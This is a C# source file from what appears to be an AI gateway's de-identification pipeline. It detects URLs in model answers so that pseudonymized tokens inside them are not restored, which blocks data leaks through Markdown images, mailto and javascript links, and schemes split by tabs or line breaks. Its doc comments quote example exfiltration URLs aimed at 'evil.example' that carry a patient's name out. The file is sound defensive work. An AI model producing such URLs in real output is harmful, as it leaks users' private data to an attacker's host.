using System.Buffers;
using System.Collections.Frozen;

namespace XefAI.Gateway.Pipeline.Invocation;

/// <summary>
/// Where an answer's text holds URLs, so that no token inside one gets its value back: a client that renders Markdown or
/// HTML fetches an image (<c>![c](https://evil.example/c.png?n=[NAME_1])</c>) as soon as it shows it, and a tool that
/// fetches a URL argument does the same, so a value restored there would leave for the URL's host. Such a token stays.
/// <para>
/// Text is cut into runs at whitespace (and, in JSON text, at an unescaped <c>"</c>; its escapes are read as the
/// characters they stand for, so <c>https:\/\/</c> and <c>\n</c> count as <c>https://</c> and a line break). Within a
/// run, a URL starts at a scheme followed by <c>://</c> (letters, digits, <c>+ . -</c>), at <c>//</c> that opens the run or
/// follows <c>( = " '</c> (scheme-relative), or at <c>www.</c> that opens the run or follows a character that is not a
/// letter or digit; it runs to the end of the run, or, when it follows <c>&lt;</c>, <c>"</c> or <c>'</c>, to the matching
/// <c>&gt;</c>, <c>"</c> or <c>'</c> whatever whitespace comes before it: a CommonMark <c>&lt;…&gt;</c> destination and a
/// quoted HTML attribute may hold spaces (<c>![c](&lt;https://evil.example/c.png ?n=[NAME_1]&gt;)</c>), which the client
/// encodes and fetches. A URL does not end at <c>] ) ' &lt;</c>: a Markdown link destination
/// may hold them, and a query may hold two tokens (<c>?n=[NAME_1]&amp;d=[DATE_1]</c>). Text before the URL in the same
/// run (<c>[[NAME_1]](https://x)</c>) is not in it.
/// </para>
/// <para>
/// A URL also starts at one of <see cref="SchemesWithoutSlashes"/> followed by <c>:</c>, <c>//</c> or not: those a
/// client follows or runs on a click without a host after <c>//</c> (<c>mailto:x@evil.example?body=[NAME_1]</c>,
/// <c>sms:</c>, <c>tel:</c> with DTMF digits, <c>javascript:</c>, <c>data:</c>), and <c>http:</c>/<c>https:</c>,
/// which a browser reads as <c>https://</c> without its slashes. Another word before a colon (<c>MRN:[MRN_1]</c>) is
/// text, since clinical text is full of them.
/// </para>
/// <para>
/// A browser removes every tab, line feed and carriage return from a URL before it reads its scheme, so a listed scheme
/// cut by them (<c>java&#9;script:</c>, <c>java\nscript:</c> in JSON) is one too: the URL starts where its first part does.
/// </para>
/// </summary>
internal static class UrlSpans
{
    /// <summary>Schemes whose URL starts at the colon, with or without <c>//</c> after it (compared ignoring case).</summary>
    internal static readonly FrozenSet<string> SchemesWithoutSlashes = FrozenSet.Create(
        StringComparer.OrdinalIgnoreCase,
        "http", "https", "ftp", "ws", "wss", "mailto", "tel", "callto", "sms", "smsto", "mms", "javascript", "vbscript", "data");

    private static readonly FrozenSet<string>.AlternateLookup<ReadOnlySpan<char>> SchemeLookup =
        SchemesWithoutSlashes.GetAlternateLookup<ReadOnlySpan<char>>();

    /// <summary>What a URL may start with besides a scheme: <c>//</c>, and <c>www.</c> in any case.</summary>
    private static readonly SearchValues<string> UrlOpeners = SearchValues.Create(["//", "www."], StringComparison.OrdinalIgnoreCase);

    /// <summary>The most characters of a run a stream keeps to find a URL begun in one delta and going on in the next.</summary>
    private const int TailLength = 32;

    /// <summary>
    /// What a stream keeps of one text field it has read so far, to read the field's next piece: whether the text ends
    /// inside a URL, and the end of its last run (at most <see cref="TailLength"/> characters; <see cref="Truncated"/>
    /// when cut, so that its first character does not count as opening the run).
    /// </summary>
    internal sealed class State
    {
        public bool InUrl { get; set; }

        public string Tail { get; set; } = "";

        public bool Truncated { get; set; }

        /// <summary>The character that ends the URL the text ends in, when it opened after <c>&lt; " '</c>; NUL otherwise.</summary>
        public char Closer { get; set; }
    }

    /// <summary>
    /// The URLs of <paramref name="text"/> as (start, end) spans, in order; null when it holds none. With
    /// <paramref name="state"/>, the text goes on from what the state has read (a URL may begin in an earlier piece, or its
    /// scheme and its <c>//</c> be cut apart), and the state is moved past it.
    /// </summary>
    public static List<(int Start, int End)>? Find(string text, bool json, State? state = null)
    {
        // The fast path: a whole text that holds nothing a URL starts with.
        if (state is null && !MayStartUrl(text, json))
        {
            return null;
        }

        var prefix = state?.Tail ?? "";
        var scanned = prefix.Length == 0 ? text : prefix + text;
        var (chars, origin, decodedEnd) = json ? Decode(scanned) : (scanned.ToCharArray(), null, scanned.Length);
        int Origin(int k) => origin is null ? k : origin[k];

        var truncated = state?.Truncated ?? false;
        var truncatedAtStart = truncated;
        var runStart = 0;
        var urlStart = state?.InUrl == true ? 0 : -1;
        var closer = urlStart >= 0 ? state!.Closer : '\0';
        List<(int Start, int End)>? spans = null;

        void Close(int end)
        {
            if (urlStart >= 0)
            {
                var start = Math.Max(urlStart, prefix.Length) - prefix.Length;
                var stop = end - prefix.Length;
                if (stop > start)
                {
                    (spans ??= []).Add((start, stop));
                }

                urlStart = -1;
            }
        }

        for (var k = 0; k < chars.Length; k++)
        {
            // An unescaped quote of JSON text is decoded as NUL: both end a run.
            if (chars[k] == '\0' || (closer == '\0' && char.IsWhiteSpace(chars[k])))
            {
                Close(Origin(k));
                closer = '\0';
                runStart = k + 1;
                truncated = false;
            }
            else if (closer != '\0')
            {
                if (chars[k] == closer)
                {
                    Close(Origin(k));
                    closer = '\0';
                }
            }
            else if (urlStart < 0 && UrlStartsAt(chars, k, runStart, truncated) is var start && start >= 0)
            {
                urlStart = Origin(start);
                closer = start > 0 ? chars[start - 1] switch { '<' => '>', '"' => '"', '\'' => '\'', _ => '\0' } : '\0';
            }
        }

        var endsInUrl = urlStart >= 0;
        Close(scanned.Length);
        if (state is not null)
        {
            state.InUrl = endsInUrl;
            state.Closer = endsInUrl ? closer : '\0';

            // A run that a tab or a line break opened may end a scheme the runs before it began (java\tscript:): the tail
            // keeps them too, and the character before them, which tells where a URL starting there ends.
            var tailStart = runStart;
            var tailTruncated = false;
            if (!endsInUrl && runStart > 0 && IsStripped(chars[runStart - 1]))
            {
                while (tailStart > 0 && (IsStripped(chars[tailStart - 1]) || IsSchemeCharacter(chars[tailStart - 1])))
                {
                    tailStart--;
                }

                tailTruncated = tailStart == 0 ? truncatedAtStart : chars[tailStart - 1] != '\0' && !char.IsWhiteSpace(chars[tailStart - 1]);
                if (tailTruncated && tailStart > 0)
                {
                    tailStart--;
                }
            }

            // The tail starts at a character, never inside an escape; an escape cut at the end of the piece is kept whole.
            var runStartRaw = tailStart < chars.Length ? Origin(tailStart) : decodedEnd;
            var from = runStartRaw;
            for (var k = tailStart; k < chars.Length && Origin(k) < scanned.Length - TailLength; k++)
            {
                from = k + 1 < chars.Length ? Origin(k + 1) : decodedEnd;
            }

            state.Truncated = (tailStart == runStart ? truncated && runStartRaw == 0 : tailTruncated) || from > runStartRaw;
            state.Tail = scanned[from..];
        }

        return spans;
    }

    /// <summary>
    /// Whether the text holds anything a URL starts with: <c>//</c>, <c>www.</c> or a listed scheme's colon, or in JSON
    /// text an escape.
    /// </summary>
    /// <remarks>
    /// <c>//</c> and <c>www.</c> in one vectorized pass: <c>Contains("www.", OrdinalIgnoreCase)</c> compared character by
    /// character under the invariant globalization mode, about 0.7 % of a governed call's CPU on every answer restored.
    /// </remarks>
    private static bool MayStartUrl(string text, bool json) =>
        text.AsSpan().ContainsAny(UrlOpeners)
        || (json && text.Contains('\\', StringComparison.Ordinal)) || HasListedScheme(text);

    private static bool HasListedScheme(string text)
    {
        for (var colon = text.IndexOf(':', StringComparison.Ordinal); colon >= 0; colon = colon + 1 < text.Length ? text.IndexOf(':', colon + 1) : -1)
        {
            var scheme = colon;
            while (scheme > 0 && IsSchemeCharacter(text[scheme - 1]))
            {
                scheme--;
            }

            // A scheme cut by a tab or a line break is left to the full scan.
            if (SchemeLookup.Contains(text.AsSpan(scheme, colon - scheme)) || (scheme > 0 && IsStripped(text[scheme - 1])))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>Where a URL that position <paramref name="i"/> shows starts (before it, for a scheme); -1 when none does.</summary>
    private static int UrlStartsAt(char[] text, int i, int runStart, bool truncated)
    {
        var opens = i == runStart && !(truncated && i == 0);
        if (text[i] == ':')
        {
            var scheme = i;
            while (scheme > runStart && IsSchemeCharacter(text[scheme - 1]))
            {
                scheme--;
            }

            var slashes = i + 2 < text.Length && text[i + 1] == '/' && text[i + 2] == '/';
            return scheme < i && (slashes || SchemeLookup.Contains(text.AsSpan(scheme, i - scheme))) ? scheme : SplitSchemeStart(text, scheme, i);
        }

        if (text[i] == '/' && i + 1 < text.Length && text[i + 1] == '/'
            && (opens || (i > runStart && text[i - 1] is '(' or '=' or '"' or '\'')))
        {
            return i;
        }

        if (text[i] is 'w' or 'W' && i + 3 < text.Length && text[i + 1] is 'w' or 'W' && text[i + 2] is 'w' or 'W' && text[i + 3] == '.'
            && (opens || (i > runStart && !char.IsLetterOrDigit(text[i - 1]))))
        {
            return i;
        }

        return -1;
    }

    private static bool IsSchemeCharacter(char c) => char.IsAsciiLetterOrDigit(c) || c is '+' or '.' or '-';

    /// <summary>The characters a browser removes from anywhere in a URL.</summary>
    private static bool IsStripped(char c) => c is '\t' or '\n' or '\r';

    /// <summary>
    /// Where a listed scheme that tabs or line breaks cut (<c>java&#9;script</c>) starts, its last part running from
    /// <paramref name="scheme"/> to the colon at <paramref name="colon"/>; -1 when none does. Each earlier part is tried in
    /// turn, the longest listed one wins: <c>notes\ntel:</c> is <c>tel:</c>, <c>java\tscript:</c> is <c>javascript:</c>.
    /// </summary>
    private static int SplitSchemeStart(char[] text, int scheme, int colon)
    {
        var found = -1;
        var start = scheme;
        while (start > 0 && IsStripped(text[start - 1]))
        {
            while (start > 0 && IsStripped(text[start - 1]))
            {
                start--;
            }

            while (start > 0 && IsSchemeCharacter(text[start - 1]))
            {
                start--;
            }

            if (start < text.Length && IsSchemeCharacter(text[start]))
            {
                var joined = new string(text, start, colon - start).Replace("\t", "", StringComparison.Ordinal)
                    .Replace("\n", "", StringComparison.Ordinal).Replace("\r", "", StringComparison.Ordinal);
                if (SchemeLookup.Contains(joined))
                {
                    found = start;
                }
            }
        }

        return found;
    }

    /// <summary>
    /// JSON text as the characters it stands for: each escape decoded, an unescaped <c>"</c> as NUL (it ends a run);
    /// <c>origin[k]</c> is where the character <c>k</c> starts in <paramref name="text"/>. An escape cut at the end is
    /// left out, <c>decodedEnd</c> being where it starts.
    /// </summary>
    private static (char[] Chars, int[] Origin, int DecodedEnd) Decode(string text)
    {
        var chars = new List<char>(text.Length);
        var origin = new List<int>(text.Length + 1);
        var i = 0;
        while (i < text.Length)
        {
            var c = text[i];
            if (c == '"')
            {
                chars.Add('\0');
                origin.Add(i);
                i++;
                continue;
            }

            if (c != '\\')
            {
                chars.Add(c);
                origin.Add(i);
                i++;
                continue;
            }

            if (i + 1 >= text.Length)
            {
                break;
            }

            var e = text[i + 1];
            if (e == 'u')
            {
                if (i + 6 > text.Length)
                {
                    break;
                }

                chars.Add(ushort.TryParse(text.AsSpan(i + 2, 4), System.Globalization.NumberStyles.AllowHexSpecifier, null, out var code) ? (char)code : '?');
                origin.Add(i);
                i += 6;
                continue;
            }

            chars.Add(e switch
            {
                'n' => '\n',
                'r' => '\r',
                't' => '\t',
                'b' => '\b',
                'f' => '\f',
                _ => e,
            });
            origin.Add(i);
            i += 2;
        }

        return ([.. chars], [.. origin], i);
    }
}
